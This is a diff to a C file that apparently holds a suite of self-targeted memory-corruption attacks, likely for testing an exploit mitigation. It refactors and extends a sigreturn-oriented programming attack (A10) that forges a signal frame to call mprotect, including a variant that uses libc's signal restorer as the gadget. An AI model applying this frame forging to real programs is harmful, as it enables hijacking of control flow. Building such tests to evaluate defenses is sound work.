@@ -58,16 +58,11 @@ static void a9(void)
 	pivot(heap + 4096);
 }
 
-/* A10: a signal's frame that no signal made. */
-static void a10(void)
+/* A10: a signal's frame that no signal made. The words for it at `to`; how many. */
+static size_t forge_frame(word *to)
 {
-	size_t n = 0;
-	ucontext_t *context;
+	ucontext_t *context = (ucontext_t *)to;
 
-	words[n++] = (word)g_pop_rax;
-	words[n++] = SYS_rt_sigreturn;
-	words[n++] = (word)g_syscall;
-	context = (ucontext_t *)&words[n];
 	memset(context, 0, sizeof(*context));
 	context->uc_mcontext.gregs[REG_RIP] = (word)g_syscall;
 	context->uc_mcontext.gregs[REG_RAX] = SYS_mprotect;
@@ -78,8 +73,35 @@ static void a10(void)
 	context->uc_mcontext.gregs[REG_CSGSFS] = 0x33 | (word)0x2b << 48;
 	words[512] = (word)exit42;
 	context->uc_mcontext.gregs[REG_RSP] = (word)&words[512];
+	return sizeof(*context) / sizeof(word);
+}
+static void a10(void)
+{
+	size_t n = 0;
+
+	words[n++] = (word)g_pop_rax;
+	words[n++] = SYS_rt_sigreturn;
+	words[n++] = (word)g_syscall;
+	n += forge_frame(&words[n]);
 	ready();
-	corrupt(words, n + sizeof(*context) / sizeof(word));
+	corrupt(words, n);
+}
+/* The same by the way that every handler takes: libc's restorer. */
+static void nothing(int number) { (void)number; }
+static void a10_libc(void)
+{
+	struct {
+		word handler, flags, restorer, mask;
+	} action;
+	size_t n = 0;
+
+	signal(SIGUSR2, nothing);
+	raise(SIGUSR2); /* an honest one */
+	syscall(SYS_rt_sigaction, SIGUSR2, 0, &action, 8);
+	words[n++] = action.restorer;
+	n += forge_frame(&words[n]);
+	ready();
+	corrupt(words, n);
 }
 
 static void a11(void)
@@ -377,7 +399,7 @@ static const struct {
 	void (*warm)(void);
 } attacks[] = {
 	{"A1", a1, 0}, {"A1r", a1_read, 0}, {"A2", a2, 0}, {"A2r", a2_read, 0}, {"A3", a3, 0}, {"A3r", a3_read, 0}, {"A4", a4, 0}, {"A5", a5, 0}, {"A5r", a5_read, 0}, {"A6", a6, 0}, {"A7", a7, flush},
-	{"A8", a8, 0}, {"A9", a9, 0}, {"A10", a10, 0}, {"A11", a11, 0}, {"A12", a12, 0}, {"A13", a13, dispatch_warm}, {"A14", a14, dispatch_warm}, {"A15", a15, a15_warm}, {"A16", a16, slot_warm}, {"A17", a17, 0},
+	{"A8", a8, 0}, {"A9", a9, 0}, {"A10", a10, 0}, {"A10l", a10_libc, 0}, {"A11", a11, 0}, {"A12", a12, 0}, {"A13", a13, dispatch_warm}, {"A14", a14, dispatch_warm}, {"A15", a15, a15_warm}, {"A16", a16, slot_warm}, {"A17", a17, 0},
 	{"A17r", a17_read, 0}, {"A18", a18, a18_warm}, {"A19", a19, a19_warm}, {"A20", a20, 0}, {"A21", a21, patch_warm}, {"A22", a22, 0}, {"exec", a_exec, 0}, {"short", a_short, 0},
 };
 
